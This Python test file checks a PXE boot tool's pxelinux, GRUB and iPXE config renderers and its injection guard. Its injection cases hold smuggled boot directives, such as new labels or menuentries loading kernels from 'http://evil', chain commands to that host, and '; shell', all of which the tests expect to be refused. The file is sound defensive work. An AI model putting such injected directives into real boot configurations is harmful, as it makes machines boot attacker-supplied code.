"""Renderers: golden text per format, and the injection guard."""

from __future__ import annotations

from typing import Any

import pytest

from pxeforge.boot.machine import BootSpec, Firmware
from pxeforge.boot.render import (
    check_cmdline,
    check_ref,
    render_grub,
    render_ipxe,
    render_ipxe_chain,
    render_pxelinux,
)

HTTP = "http://192.168.77.1:8080"
KS = "http://10.10.3.167/ks_config/CentOS-6.9-ks.cfg"

# The seed's /var/lib/tftpboot/pxelinux.cfg/default (003_…txt). The seed wrote `vmlinuz` and
# `initrd=initrd.img`; pxelinux, loaded as "/pxelinux.0", fetched them as "/vmlinuz" and
# "/initrd.img" — we write those absolute names so a config works from any loader directory.
SEED_DEFAULT = """\
default ks
prompt 0
label ks
    menu label ^Install a system
    kernel /vmlinuz
    append initrd=/initrd.img ks=http://10.10.3.167/ks_config/CentOS-6.9-ks.cfg ksdevice=eth0
"""

SEED_SPEC = BootSpec(
    kernel="vmlinuz",
    initrds=("initrd.img",),
    cmdline="ksdevice=eth0",
    extra={"ks": KS, "label": "ks", "menu_label": "^Install a system"},
)

STATIC = BootSpec(
    kernel="_pxeforge/kernel",
    initrds=("_pxeforge/initrd-0", "_pxeforge/initrd-1"),
    cmdline="console=ttyS0,115200 quiet",
)


def test_pxelinux_reproduces_the_seed_default() -> None:
    assert render_pxelinux(SEED_SPEC) == SEED_DEFAULT


def test_pxelinux_several_initrds_commas_file_base_and_urls() -> None:
    spec = BootSpec(
        kernel="http://10.0.0.1:8080/vmlinuz",
        initrds=("base.img", "/overlay.img"),
        cmdline="quiet",
    )
    assert render_pxelinux(spec, file_base="bios/") == (
        "default pxeforge\n"
        "prompt 0\n"
        "label pxeforge\n"
        "    kernel http://10.0.0.1:8080/vmlinuz\n"
        "    append initrd=/bios/base.img,/bios/overlay.img quiet\n"
    )


def test_pxelinux_no_initrd_no_args_has_no_append_line() -> None:
    text = render_pxelinux(BootSpec(kernel="memtest"))
    assert text.endswith("    kernel /memtest\n")
    assert "append" not in text


def test_pxelinux_localboot_and_message() -> None:
    assert render_pxelinux(BootSpec(kernel="", localboot=True, message="Disk boot")) == (
        "say Disk boot\ndefault local\nprompt 0\nlabel local\n    localboot 0\n"
    )


def test_grub_golden() -> None:
    assert render_grub(STATIC) == (
        "set default=0\n"
        "set timeout=0\n"
        "menuentry 'pxeforge' {\n"
        "    linux /_pxeforge/kernel console=ttyS0,115200 quiet\n"
        "    initrd /_pxeforge/initrd-0 /_pxeforge/initrd-1\n"
        "}\n"
    )
    assert "linuxefi" not in render_grub(STATIC)


def test_grub_seed_spec_with_ks_timeout_and_message() -> None:
    spec = BootSpec(
        kernel="vmlinuz",
        initrds=("initrd.img",),
        cmdline="ksdevice=eth0",
        message="Installing CentOS",
        extra={"ks": KS, "timeout": "5"},
    )
    assert render_grub(spec) == (
        "set default=0\n"
        "set timeout=5\n"
        "menuentry 'pxeforge' {\n"
        "    echo 'Installing CentOS'\n"
        f"    linux /vmlinuz ks={KS} ksdevice=eth0\n"
        "    initrd /initrd.img\n"
        "}\n"
    )


def test_grub_quotes_shell_characters_and_maps_http_urls() -> None:
    spec = BootSpec(
        kernel="http://10.0.0.1:8080/k",
        initrds=("http://10.0.0.1/i?sig=a&exp=1",),
        cmdline='ks=http://h/ks?a=1&b=2 foo="a b;c" {x}',
    )
    text = render_grub(spec)
    kernel = "'(http,10.0.0.1,8080)/k'"
    assert f"    linux {kernel} 'ks=http://h/ks?a=1&b=2' foo=\"a b;c\" '{{x}}'\n" in text
    assert "    initrd '(http,10.0.0.1)/i?sig=a&exp=1'\n" in text


def test_grub_localboot_chains_disk_or_exits() -> None:
    text = render_grub(BootSpec(kernel="", localboot=True))
    # root moves to the disk: chainloader hands the image the root device, not the path's
    assert "search --no-floppy --file --set=root /EFI/BOOT/BOOTX64.EFI" in text
    assert "chainloader /EFI/BOOT/BOOTX64.EFI" in text
    assert "    exit\n" in text
    assert "linux" not in text


def test_ipxe_golden_initrd_named_on_kernel_line() -> None:
    assert render_ipxe(STATIC, http_base=HTTP + "/") == (
        "#!ipxe\n"
        f"kernel {HTTP}/_pxeforge/kernel initrd=initrd-0 initrd=initrd-1 "
        "console=ttyS0,115200 quiet\n"
        f"initrd {HTTP}/_pxeforge/initrd-0\n"
        f"initrd {HTTP}/_pxeforge/initrd-1\n"
        "boot\n"
    )


def test_ipxe_seed_spec_urls_passed_through_and_duplicate_names() -> None:
    spec = BootSpec(
        kernel="vmlinuz",
        initrds=("a/initrd.img", "http://mirror/b/initrd.img"),
        cmdline="ksdevice=eth0",
        message="hello",
        extra={"ks": KS},
    )
    assert render_ipxe(spec, http_base=HTTP) == (
        "#!ipxe\n"
        "echo hello\n"
        f"kernel {HTTP}/vmlinuz initrd=initrd.img initrd=initrd.img-1 ks={KS} ksdevice=eth0\n"
        f"initrd {HTTP}/a/initrd.img\n"
        "initrd --name initrd.img-1 http://mirror/b/initrd.img\n"
        "boot\n"
    )


def test_ipxe_localboot_exit_or_sanboot_for_bios() -> None:
    local = BootSpec(kernel="", localboot=True)
    # a failure status: UEFI's boot manager then tries the next boot option (the disk)
    assert render_ipxe(local, http_base=HTTP) == "#!ipxe\nexit 1\n"
    assert render_ipxe(local, http_base=HTTP, firmware=Firmware.EFI_X64) == "#!ipxe\nexit 1\n"
    assert render_ipxe(local, http_base=HTTP, firmware=Firmware.BIOS) == (
        "#!ipxe\nsanboot --no-describe --drive 0x80 || exit 1\nexit 1\n"
    )


def test_ipxe_script_wins_verbatim() -> None:
    spec = BootSpec(kernel="vmlinuz", ipxe_script="#!ipxe\nshell")
    assert render_ipxe(spec, http_base=HTTP) == "#!ipxe\nshell\n"


def test_ipxe_chain_tries_every_nic_and_sleeps_before_retrying() -> None:
    text = render_ipxe_chain(HTTP + "/")
    assert text.startswith("#!ipxe\n")
    assert (
        f"chain --replace --autofree {HTTP}/ipxe?mac=${{net${{idx}}/mac}}&uuid=${{uuid}}"
        "&arch=${buildarch}&platform=${platform} || goto next\n"
    ) in text  # replaced: the machine's script's exit status reaches the firmware
    assert "inc idx\ngoto nic\n" in text
    assert "sleep 10\ngoto start\n" in text


INJECTIONS = [
    "quiet\nlabel evil\n  kernel http://evil/k",  # pxelinux: a new label
    "quiet\r\nkernel http://evil/k",
    "quiet }\nmenuentry evil {",  # GRUB: close the entry
    "quiet || chain http://evil/x",  # iPXE: run a command when kernel fails
    "quiet && chain http://evil/x",
    "quiet ; shell",
    "quiet #rest-ignored",
    "root=${root-password}",  # iPXE/GRUB expansion
    "a=$root",
    "a=\\",
    "it's",
    "`x`",
    'foo="unbalanced',
    "tab\there",
    "nul\x00",
    "del\x7f",
    "nel\u0085",
    "ls\u2028",
]


@pytest.mark.parametrize("cmdline", INJECTIONS)
def test_injection_in_cmdline_refused_by_every_renderer(cmdline: str) -> None:
    spec = BootSpec(kernel="vmlinuz", cmdline=cmdline)
    with pytest.raises(ValueError):
        check_cmdline(cmdline)
    with pytest.raises(ValueError):
        render_pxelinux(spec)
    with pytest.raises(ValueError):
        render_grub(spec)
    with pytest.raises(ValueError):
        render_ipxe(spec, http_base=HTTP)


@pytest.mark.parametrize(
    "ref",
    [
        "vmlinuz\nlabel x",
        "vmlinuz initrd=http://evil/i",
        "a,b",
        'a"b',
        "",
        "k$x",
        "#k",
        "||",
    ],
)
def test_injection_in_refs_refused(ref: str) -> None:
    with pytest.raises(ValueError):
        check_ref(ref)
    for spec in (BootSpec(kernel=ref), BootSpec(kernel="k", initrds=("i", ref))):
        with pytest.raises(ValueError):
            render_pxelinux(spec)
        with pytest.raises(ValueError):
            render_grub(spec)
        with pytest.raises(ValueError):
            render_ipxe(spec, http_base=HTTP)


@pytest.mark.parametrize(
    ("extra", "renderers"),
    [
        ({"ks": "http://h/ks\nlabel x"}, (render_pxelinux, render_grub)),
        ({"ks": "http://h/ks x"}, (render_pxelinux, render_grub)),
        ({"label": "a b"}, (render_pxelinux, render_grub)),
        ({"label": "x\ndefault y"}, (render_pxelinux, render_grub)),
        ({"label": "x' {"}, (render_pxelinux, render_grub)),
        ({"menu_label": "m\nkernel /evil"}, (render_pxelinux,)),
        ({"timeout": "1\nset x=y"}, (render_grub,)),
    ],
)
def test_injection_in_extra_refused(extra: dict[str, str], renderers: tuple[Any, ...]) -> None:
    spec = BootSpec(kernel="vmlinuz", extra=extra)
    for render in renderers:
        with pytest.raises(ValueError):
            render(spec)
    if "ks" in extra:
        with pytest.raises(ValueError):
            render_ipxe(spec, http_base=HTTP)


def test_message_injection_refused() -> None:
    spec = BootSpec(kernel="vmlinuz", message="hi\nkernel http://evil")
    for render in (render_pxelinux, render_grub):
        with pytest.raises(ValueError):
            render(spec)
    with pytest.raises(ValueError):
        render_ipxe(spec, http_base=HTTP)


def test_ordinary_command_lines_pass() -> None:
    for cmdline in (
        "",
        "console=ttyS0,115200n8 root=/dev/nfs nfsroot=10.0.0.1:/srv,vers=3 ip=dhcp",
        'inst.ks=http://h/ks.cfg?mac=aa:bb&x=1 rd.neednet=1 foo="a b"',
        "BOOTIF=01-52-54-00-77-00-10 ipa-api-url=http://10.0.0.1:6385 -- quiet",
    ):
        check_cmdline(cmdline)
        spec = BootSpec(kernel="vmlinuz", cmdline=cmdline)
        assert cmdline in render_pxelinux(spec)
        assert cmdline in render_ipxe(spec, http_base=HTTP)
        render_grub(spec)
